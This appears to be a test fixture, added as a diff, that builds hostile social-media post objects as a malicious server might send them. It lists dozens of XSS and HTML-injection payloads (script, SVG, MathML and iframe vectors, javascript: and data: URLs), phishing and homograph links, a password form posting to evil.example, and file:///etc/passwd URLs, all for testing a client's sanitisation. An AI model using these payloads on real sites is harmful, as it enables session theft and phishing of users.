@@ -1,0 +1,178 @@
+/** Posts as an attacker's server would send them. */
+
+const CALL = 'window.__pwned=1';
+const PICTURE = 'https://media.example/picture.png';
+
+/** Every one tries to run `CALL`, to draw over the page, to leave it, or to look like what it is not. */
+export const attacks: readonly string[] = [
+  `<script>${CALL}</script>`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<script src="https://evil.example/a.js"></script>`,
+  `<script type="module">import "https://evil.example/a.js"</script>`,
+  `<img src=x onerror="${CALL}">`,
+  `<img/src=x/onerror=${CALL}>`,
+  `<IMG SRC=x OnErRoR=${CALL}>`,
+  `<img src="x\` onerror=${CALL}\`>`,
+  `<svg onload=${CALL}>`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><set attributeName=onmouseover to=${CALL}>`,
+  `<svg><a xlink:href="javascript:${CALL}"><text y="20">press</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"></use></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
+  `<math href="javascript:${CALL}">press</math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
+  `<iframe src="javascript:parent.${CALL}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
+  `<object data="javascript:${CALL}"></object>`,
+  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
+  `<embed src="javascript:${CALL}">`,
+  `<base href="https://evil.example/"><a href="/login">log in</a>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<link rel="stylesheet" href="https://evil.example/a.css">`,
+  `<link rel="import" href="https://evil.example/a.html">`,
+  `<style>*{display:none!important}</style>`,
+  `<style>@import 'https://evil.example/a.css';</style>`,
+  `<p style="position:fixed;inset:0;background:red;z-index:9999">over the page</p>`,
+  `<p style="background:url(https://evil.example/a.png)">behind the text</p>`,
+  `<form action="https://evil.example/"><input name=password type=password autofocus onfocus=${CALL}><button>Log in</button></form>`,
+  `<button formaction="javascript:${CALL}" onclick=${CALL}>Log in</button>`,
+  `<select onchange=${CALL} autofocus><option>1</select>`,
+  `<textarea autofocus onfocus=${CALL}></textarea>`,
+  `<details open ontoggle=${CALL}>more</details>`,
+  `<body onload=${CALL}>`,
+  `<video autoplay onplay=${CALL}><source onerror="${CALL}" src=x></video>`,
+  `<audio src=x onerror=${CALL}>`,
+  `<marquee onstart=${CALL}>by</marquee>`,
+  `<a href="javascript:${CALL}">press</a>`,
+  `<a href=" &#14; javascript:${CALL}">press</a>`,
+  `<a href="java&Tab;script&colon;${CALL}">press</a>`,
+  `<a href="JaVaScRiPt:${CALL}">press</a>`,
+  `<a href="data:text/html,<script>${CALL}</script>">press</a>`,
+  `<a href="vbscript:msgbox(1)">press</a>`,
+  `<a href="https://evil.example/" ping="https://evil.example/ping" onclick="${CALL}" target="_top">press</a>`,
+  `<a href="https://evil.example/">https://bank.example/login</a>`,
+  `<a href="https://bank.example@evil.example/">bank.example</a>`,
+  `<a href="https://xn--bnk-ela.example/">bänk.example</a> <a href="https://аpple.example/">аpple.example</a>`,
+  `<a class="mention" href="https://evil.example/@mara">@<span>mara@tram.city</span></a>`,
+  `&lt;script&gt;${CALL}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
+  `<template><img src=x onerror=${CALL}></template>`,
+  `<xmp><img src=x onerror=${CALL}></xmp><plaintext>`,
+  `<![CDATA[><img src=x onerror=${CALL}>]]><!--><img src=x onerror=${CALL}>-->`,
+  `${'<b>'.repeat(3000)}deep${'</b>'.repeat(3000)}`,
+  `${'<blockquote><ul><li>'.repeat(400)}deep`,
+  `\u202Ereversed \u2066isolated \u200Bempty \uFEFFmark ${'\u0301'.repeat(400)}`,
+  `${'wide'.repeat(4000)}`,
+  `<pre>${'wide '.repeat(2000)}</pre>`,
+  `{{constructor.constructor('${CALL}')()}} \${${CALL}} <%= ${CALL} %> __proto__`,
+];
+
+/** Where text goes, markup must show as text; where an address goes, only an address may pass. */
+function attackUrl(attack: string, at: number): string {
+  const urls = [
+    `javascript:${CALL}`,
+    `JAVASCRIPT://example.org/%0a${CALL}`,
+    `data:text/html,<script>${CALL}</script>`,
+    `vbscript:msgbox(1)`,
+    `https://evil.example/"onerror="${CALL}`,
+    `//evil.example/`,
+    `http://[::1]:4/a.png`,
+    `http://sub.localhost:4/a.png`,
+    `blob:https://evil.example/1`,
+    `file:///etc/passwd`,
+    attack,
+  ];
+  return urls[at % urls.length] ?? attack;
+}
+
+/** A post with the attack in every field of text and a bad address in every field of addresses. The id sorts by `at`. */
+export function hostilePost(attack: string, at: number): Record<string, unknown> {
+  const id = `7${String(100_000 - at)}`;
+  const bad = attackUrl(attack, at);
+  const emojis = [
+    { shortcode: 'boat', url: bad, static_url: bad, visible_in_picker: true },
+    { shortcode: attack.slice(0, 100), url: PICTURE, static_url: PICTURE, visible_in_picker: true },
+    { shortcode: '__proto__', url: PICTURE, static_url: PICTURE, visible_in_picker: true },
+  ];
+  return {
+    id,
+    uri: bad,
+    url: bad,
+    created_at: new Date(Date.UTC(2026, 10, 20, 8, 0, 0) - at * 60_000).toISOString(),
+    content: `<p>post ${at} :boat:</p>${attack}`,
+    // A warning folds the text away; most posts show theirs at once.
+    spoiler_text: at % 4 === 3 ? attack : '',
+    sensitive: at % 8 === 3,
+    visibility: 'public',
+    language: attack.slice(0, 40),
+    application: { name: attack, website: bad },
+    account: {
+      id: `${id}1`,
+      username: attack,
+      acct: at % 2 === 0 ? attack : `mallory${at}@evil.example`,
+      display_name: `${attack} :boat:`,
+      note: attack,
+      url: bad,
+      uri: bad,
+      avatar: bad,
+      avatar_static: bad,
+      header: bad,
+      header_static: bad,
+      emojis,
+      fields: [{ name: attack, value: attack, verified_at: attack }],
+    },
+    emojis,
+    mentions: [{ id: '1', username: attack, acct: attack, url: bad }],
+    tags: [{ name: attack, url: bad }],
+    media_attachments: [
+      { id: `${id}2`, type: 'image', url: bad, preview_url: bad, remote_url: bad, description: attack, blurhash: attack },
+      {
+        id: `${id}3`,
+        type: ['video', 'audio', 'gifv', 'unknown', attack][at % 5],
+        url: bad,
+        preview_url: bad,
+        description: attack,
+      },
+    ],
+    card:
+      at % 3 === 0
+        ? {
+            url: at % 2 === 0 ? 'https://news.example/' : bad,
+            title: attack,
+            description: attack,
+            type: ['video', 'rich', 'link', 'photo'][at % 4],
+            html: attack,
+            embed_url: bad,
+            author_name: attack,
+            author_url: bad,
+            provider_name: attack,
+            provider_url: bad,
+            image: bad,
+            width: 1e9,
+            height: -1,
+          }
+        : null,
+    poll:
+      at % 3 === 1
+        ? {
+            id: `${id}4`,
+            expires_at: attack,
+            multiple: true,
+            votes_count: 3,
+            options: [
+              { title: attack, votes_count: 1e300 },
+              { title: `:boat: ${attack}`, votes_count: -1 },
+            ],
+            emojis,
+          }
+        : null,
+    emoji_reactions: [{ name: attack, count: 3, me: false, url: bad, static_url: bad }],
+    reblog: null,
+  };
+}
